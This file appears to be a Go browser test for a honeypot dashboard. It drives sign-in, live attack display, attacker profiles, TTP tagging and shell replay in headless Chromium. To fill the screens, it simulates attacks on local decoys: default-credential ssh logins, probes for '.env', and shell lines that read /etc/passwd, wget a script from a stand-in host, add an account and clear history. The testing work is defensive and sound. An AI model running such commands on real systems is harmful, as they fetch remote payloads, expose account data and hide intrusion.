package node_test

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"golang.org/x/crypto/ssh"

	"github.com/decnet-go/decnet/internal/decky"
	"github.com/decnet-go/decnet/internal/node"
	"github.com/decnet-go/decnet/internal/store"
	"github.com/decnet-go/decnet/internal/testkit"
	"github.com/decnet-go/decnet/internal/testkit/gate"
)

// TestDashboardInBrowser drives the dashboard in headless Chromium as an
// operator would: sign in with the bootstrap password, choose a new one,
// watch an ssh attack appear on the overview without reloading, then open
// the attackers, the attacker's profile with its TTP inspector and the
// replay of a recorded shell, add a service to a decky, change a setting and
// open the deckies. It saves a
// screenshot of each screen, into docs/img/ under
// DECNET_UPDATE_SCREENSHOTS=1 (the images of the README and
// docs/dashboard.md) and into a temporary directory otherwise.
func TestDashboardInBrowser(t *testing.T) {
	if os.Getenv("DECNET_TEST_BROWSER") != "1" {
		gate.Missing(t, "DECNET_TEST_BROWSER=1 is not set (browser test of the dashboard)")
	}
	chromium := gate.Tool(t, "chromium")
	shots := t.TempDir()
	if os.Getenv("DECNET_UPDATE_SCREENSHOTS") == "1" {
		shots = filepath.Join("..", "..", "docs", "img")
	}

	// Every other entry of Fleet: neighbours there may share an address.
	all := testkit.Fleet(6)
	fleet := []decky.Decky{all[0], all[2], all[4]}
	for i := range fleet {
		fleet[i].Name = fmt.Sprintf("decky-%02d", i+1)
	}
	fleet[0].Services = []string{"ssh", "http", "telnet", "ftp"}
	fleet[1].Services = []string{"ssh", "smtp_relay", "pop3"}
	s := testkit.StartConfig(t, node.Config{Fleet: fleet})
	base := "http://" + s.Node.APIAddr

	alloc, cancelAlloc := chromedp.NewExecAllocator(context.Background(),
		chromedp.ExecPath(chromium),
		chromedp.Flag("headless", true),
		chromedp.Flag("no-sandbox", true),
		chromedp.Flag("disable-gpu", true),
		chromedp.Flag("disable-quic", true),
		chromedp.Flag("no-first-run", true),
		chromedp.Flag("disable-background-networking", true),
		chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true),
		chromedp.Flag("hide-scrollbars", true),
		chromedp.UserDataDir(t.TempDir()),
		chromedp.WindowSize(1280, 900),
	)
	defer cancelAlloc()
	ctx, cancelCtx := chromedp.NewContext(alloc, chromedp.WithErrorf(t.Logf))
	defer cancelCtx()
	ctx, cancel := context.WithTimeout(ctx, 2*time.Minute)
	defer cancel()
	run := func(what string, steps ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		if err := chromedp.Do(ctx, steps...); err != nil {
			t.Fatalf("%s: %v", what, err)
		}
	}
	shot := func(name string) {
		t.Helper()
		png := browserGet(t, ctx, "screenshot "+name, chromedp.FullScreenshot(100))
		if err := os.WriteFile(filepath.Join(shots, name), png, 0o644); err != nil {
			t.Fatal(err)
		}
	}

	// Sign in with the bootstrap password: the forced password change
	// comes first, then a new sign-in.
	submit := chromedp.Click(chromedp.CSS(`button[type="submit"]`))
	run("bootstrap sign-in",
		chromedp.Navigate(base+"/ui/"),
		chromedp.WaitVisible(chromedp.ID("username")),
		chromedp.SendKeys(chromedp.ID("username"), "admin"),
		chromedp.SendKeys(chromedp.ID("password"), testkit.AdminPassword),
		submit,
		chromedp.WaitVisible(chromedp.ID("new_password")),
	)
	loc := browserGet(t, ctx, "location", chromedp.Location())
	if !strings.HasSuffix(loc, "/ui/password") {
		t.Fatalf("bootstrap sign-in ended at %s, want the forced password change", loc)
	}
	run("password change",
		chromedp.SendKeys(chromedp.ID("old_password"), testkit.AdminPassword),
		chromedp.SendKeys(chromedp.ID("new_password"), testkit.NewAdminPassword),
		chromedp.SendKeys(chromedp.ID("confirm"), testkit.NewAdminPassword),
		submit,
		chromedp.WaitVisible(chromedp.ID("username")),
	)

	// Earlier attacks from three addresses, so the screens have something
	// to show besides the attack watched live.
	d1, d2 := fleet[0].Name, fleet[1].Name
	sshFrom(t, "127.0.0.23", s.Addr(d1, "ssh"), "admin", "admin123")
	sshFrom(t, "127.0.0.23", s.Addr(d1, "ssh"), "root", "toor")
	sshFrom(t, "127.0.0.57", s.Addr(d2, "ssh"), "ubuntu", "ubuntu")
	sshFrom(t, "127.0.0.57", s.Addr(d2, "ssh"), "oracle", "oracle1")
	httpFrom(t, "127.0.0.91", "http://"+s.Addr(d1, "http")+"/wp-login.php")
	httpFrom(t, "127.0.0.91", "http://"+s.Addr(d1, "http")+"/.env")
	s.Login() // the API account is the same: it now has the new password
	s.Eventually(5*time.Second, "the three earlier attackers stored", func() bool {
		var list testkit.Page[store.Attacker]
		return s.Get("/api/v1/attackers?limit=100", &list) == 200 && list.Total == 3
	})

	run("sign-in with the new password",
		chromedp.SendKeys(chromedp.ID("username"), "admin"),
		chromedp.SendKeys(chromedp.ID("password"), testkit.NewAdminPassword),
		submit,
		chromedp.WaitVisible(chromedp.ID("counters")),
		chromedp.WaitVisible(chromedp.CSS(".live.is-live")),
	)
	loc = browserGet(t, ctx, "location", chromedp.Location())
	attackers := browserGet(t, ctx, "attackers counter", chromedp.Text(chromedp.CSS("#counters .counter:first-child .value")))
	if !strings.HasSuffix(loc, "/ui/") || strings.TrimSpace(attackers) != "3" {
		t.Fatalf("after sign-in: at %s with %q attackers, want the overview with 3", loc, attackers)
	}

	// A new attacker logs in over ssh and runs commands; the overview
	// shows it without a reload (the marker set on the page survives).
	const liveIP = "127.0.0.66"
	browserGet(t, ctx, "mark the page", chromedp.Evaluate[bool](`window.decnetNoReload = true`))
	sshFrom(t, liveIP, s.Addr(d1, "ssh"), "root", "123456")
	start := time.Now()
	browserGet(t, ctx, "live update of the overview",
		chromedp.Poll[bool](`document.querySelector("#counters .counter:first-child .value").textContent.trim() === "4" &&
			[...document.querySelectorAll("#latest-rows tr")].some(r => r.textContent.includes("`+liveIP+`"))`,
			chromedp.WithPollingTimeout(5*time.Second)))
	if !browserGet(t, ctx, "reload marker", chromedp.Evaluate[bool](`window.decnetNoReload === true`)) {
		t.Fatal("the overview was reloaded instead of updated live")
	}
	t.Logf("attacker on the overview %v after the attempt", time.Since(start).Round(time.Millisecond))
	// It gets in and runs commands, which stream in too.
	root, _ := s.Persona(d1).Account("root")
	sshFrom(t, liveIP, s.Addr(d1, "ssh"), "root", root.Password, "uname -a", "cat /etc/passwd", "wget http://203.0.113.7/x.sh -O /tmp/x.sh")
	browserGet(t, ctx, "commands on the overview",
		chromedp.Poll[bool](`[...document.querySelectorAll("#latest-rows tr")].some(r => r.textContent.includes("wget http://203.0.113.7"))`,
			chromedp.WithPollingTimeout(5*time.Second)))
	shot("dashboard-overview.png")

	run("live events",
		chromedp.Navigate(base+"/ui/events"),
		chromedp.WaitVisible(chromedp.CSS(".live.is-live")),
	)
	shot("dashboard-events.png")

	link := chromedp.Search(`//a[normalize-space()="` + liveIP + `"]`)
	run("attackers", chromedp.Navigate(base+"/ui/attackers"), chromedp.WaitVisible(link))
	shot("dashboard-attackers.png")
	run("the live attacker's profile", chromedp.Click(link), chromedp.WaitVisible(chromedp.CSS("h1.mono")))
	h1 := browserGet(t, ctx, "profile heading", chromedp.Text(chromedp.CSS("h1.mono")))
	if strings.TrimSpace(h1) != liveIP {
		t.Fatalf("attacker profile shows %q, want %s", h1, liveIP)
	}
	shot("dashboard-attacker.png")

	// The TTP inspector: the attacker's commands (a download, a new
	// account, a wiped history) are tagged; a technique opens in a drawer
	// that takes the focus, and Escape gives it back to the row.
	sshShellFrom(t, liveIP, s.Addr(d1, "ssh"), "root", root.Password,
		"uname -a", "wget http://203.0.113.7/x.sh -O /tmp/x.sh", "useradd x", "history -c", "exit")
	profile := browserGet(t, ctx, "profile address", chromedp.Location())
	ttpRow := `#ttp a[data-drawer-open]`
	replay := `//a[normalize-space()="Replay"]`
	s.Eventually(20*time.Second, "techniques tagged and the shell recorded", func() bool {
		if chromedp.Do(ctx, chromedp.Navigate(profile), chromedp.WaitVisible(chromedp.CSS("h1.mono"))) != nil {
			return false
		}
		ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`document.querySelector("`+ttpRow+`") !== null &&
			document.evaluate('`+replay+`', document, null, XPathResult.FIRST_ORDERED_NODE_TYPE, null).singleNodeValue !== null`))
		return err == nil && ok
	})
	run("open the TTP inspector", chromedp.Click(chromedp.CSS(ttpRow)), chromedp.WaitVisible(chromedp.CSS(`#drawer:not([hidden]) #drawer-title`)))
	drawer := browserGet(t, ctx, "drawer text", chromedp.Text(chromedp.CSS("#drawer")))
	focusIn := browserGet(t, ctx, "focus in the drawer", chromedp.Evaluate[bool](`document.getElementById("drawer").contains(document.activeElement)`))
	loc = browserGet(t, ctx, "inspector address", chromedp.Location())
	if !focusIn || !strings.Contains(loc, "/ttp/T") || !strings.Contains(drawer, "Confidence") && !strings.Contains(drawer, "confidence") {
		t.Fatalf("TTP inspector: focus inside %v, at %s, text %q", focusIn, loc, drawer)
	}
	shot("dashboard-ttp-inspector.png")
	run("close the inspector", chromedp.KeyEvent("\x1b"), chromedp.WaitNotVisible(chromedp.CSS("#drawer")))
	if !browserGet(t, ctx, "focus back on the row", chromedp.Evaluate[bool](`document.activeElement.matches("`+ttpRow+`")`)) {
		t.Fatal("closing the inspector did not return the focus to its row")
	}

	// Session replay: the recorded shell plays back in the page.
	run("open the replay", chromedp.Navigate(profile), chromedp.WaitVisible(chromedp.Search(replay)),
		chromedp.Click(chromedp.Search(replay)), chromedp.WaitVisible(chromedp.CSS(".player-controls")),
		chromedp.SetValue(chromedp.CSS("#replay-speed"), "8"),
		chromedp.Click(chromedp.CSS("[data-replay-play]")))
	browserGet(t, ctx, "the shell replayed",
		chromedp.Poll[bool](`document.querySelector("[data-replay-screen]").textContent.includes("useradd x") &&
			document.querySelector("[data-replay-play]").textContent !== "Pause"`, chromedp.WithPollingTimeout(30*time.Second)))
	screen := browserGet(t, ctx, "replayed text", chromedp.Text(chromedp.CSS("[data-replay-screen]")))
	if !strings.Contains(screen, "wget http://203.0.113.7/x.sh") || strings.Contains(screen, "\x1b") {
		t.Fatalf("replayed terminal reads %q", screen)
	}
	shot("dashboard-replay.png")

	// A service added through the decky page is listed on it.
	run("add a service", chromedp.Navigate(base+"/ui/deckies/"+d2), chromedp.WaitVisible(chromedp.ID("add-service")),
		chromedp.SetValue(chromedp.ID("add-service"), "ftp"),
		chromedp.Click(chromedp.CSS(`#decky-add button[type="submit"]`)),
		chromedp.WaitVisible(chromedp.ID("service-ftp")))
	if n := browserGet(t, ctx, "services listed", chromedp.Evaluate[int](`document.querySelectorAll("#decky-services .card.service").length`)); n != 4 {
		t.Fatalf("decky page lists %d services after the add, want 4", n)
	}

	// Settings: the admin changes the deployment limit.
	run("settings", chromedp.Navigate(base+"/ui/settings"), chromedp.WaitVisible(chromedp.ID("deployment-limit-input")),
		chromedp.SetValue(chromedp.ID("deployment-limit-input"), "20"),
		chromedp.Click(chromedp.CSS(`#deployment-limit button[type="submit"]`)),
		chromedp.WaitVisible(chromedp.ID("settings-notice")))
	if v := browserGet(t, ctx, "limit shown", chromedp.Text(chromedp.ID("limit-value"))); strings.TrimSpace(v) != "20" {
		t.Fatalf("settings show a limit of %q after setting 20", v)
	}
	shot("dashboard-settings.png")

	// TTP rules: the admin disables a rule and enables it again.
	run("ttp rules", chromedp.Navigate(base+"/ui/ttp/rules?q=R0001"), chromedp.WaitVisible(chromedp.ID("rule-R0001")),
		chromedp.Click(chromedp.CSS(`#rule-R0001 button[type="submit"]`)),
		chromedp.WaitVisible(chromedp.CSS(`#rule-R0001 .rule-disabled`)))
	shot("dashboard-ttp-rules.png")
	run("enable the rule", chromedp.Click(chromedp.CSS(`#rule-R0001 button[type="submit"]`)),
		chromedp.WaitVisible(chromedp.CSS(`#rule-R0001 .rule-enabled`)))

	run("deckies", chromedp.Navigate(base+"/ui/deckies"), chromedp.WaitVisible(chromedp.CSS(".card.decky")))
	cards := browserGet(t, ctx, "decky cards", chromedp.Evaluate[int](`document.querySelectorAll(".card.decky").length`))
	if cards != len(fleet) {
		t.Fatalf("deckies page shows %d deckies, want %d", cards, len(fleet))
	}
	shot("dashboard-deckies.png")
}

// browserGet runs one browser action and returns its value, failing the
// test with what on error.
func browserGet[T any](t *testing.T, ctx context.Context, what string, a chromedp.Action[T]) T {
	t.Helper()
	v, err := chromedp.Run(ctx, a)
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	return v
}

// dialSSHFrom connects from the loopback address src to the ssh service at
// addr and logs in as user/pw; a failed dial fails the test, a refused
// login is the error.
func dialSSHFrom(t *testing.T, src, addr, user, pw string) (*ssh.Client, error) {
	t.Helper()
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(src)}, Timeout: 5 * time.Second}
	conn, err := d.Dial("tcp", addr)
	if err != nil {
		t.Fatalf("dial %s from %s: %v", addr, src, err)
	}
	cfg := &ssh.ClientConfig{User: user, Auth: []ssh.AuthMethod{ssh.Password(pw)},
		HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: 5 * time.Second}
	c, chans, reqs, err := ssh.NewClientConn(conn, addr, cfg)
	if err != nil {
		conn.Close()
		return nil, err
	}
	return ssh.NewClient(c, chans, reqs), nil
}

// sshFrom tries user/pw on the ssh service at addr from the loopback
// address src, running commands when the login succeeds.
func sshFrom(t *testing.T, src, addr, user, pw string, commands ...string) {
	t.Helper()
	client, err := dialSSHFrom(t, src, addr, user, pw)
	if err != nil {
		if len(commands) > 0 {
			t.Fatalf("ssh %s@%s: %v", user, addr, err)
		}
		return
	}
	defer client.Close()
	for _, cmd := range commands {
		sess, err := client.NewSession()
		if err != nil {
			t.Fatal(err)
		}
		_, _ = sess.Output(cmd)
		sess.Close()
	}
}

// sshShellFrom logs in as user/pw at addr from src and types lines into an
// interactive shell on a pseudo-terminal, as a person would.
func sshShellFrom(t *testing.T, src, addr, user, pw string, lines ...string) {
	t.Helper()
	client, err := dialSSHFrom(t, src, addr, user, pw)
	if err != nil {
		t.Fatalf("ssh %s@%s: %v", user, addr, err)
	}
	defer client.Close()
	sess, err := client.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer sess.Close()
	if err := sess.RequestPty("xterm-256color", 24, 100, ssh.TerminalModes{ssh.ECHO: 1}); err != nil {
		t.Fatal(err)
	}
	in, err := sess.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	sess.Stdout, sess.Stderr = io.Discard, io.Discard
	if err := sess.Shell(); err != nil {
		t.Fatal(err)
	}
	for _, l := range lines {
		time.Sleep(300 * time.Millisecond)
		fmt.Fprintf(in, "%s\r", l)
	}
	done := make(chan error, 1)
	go func() { done <- sess.Wait() }()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		t.Fatal("the shell did not end")
	}
}

// httpFrom requests url from the loopback address src.
func httpFrom(t *testing.T, src, url string) {
	t.Helper()
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(src)}, Timeout: 5 * time.Second}
	c := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{DialContext: d.DialContext}}
	resp, err := c.Get(url)
	if err != nil {
		t.Fatalf("GET %s from %s: %v", url, src, err)
	}
	resp.Body.Close()
}
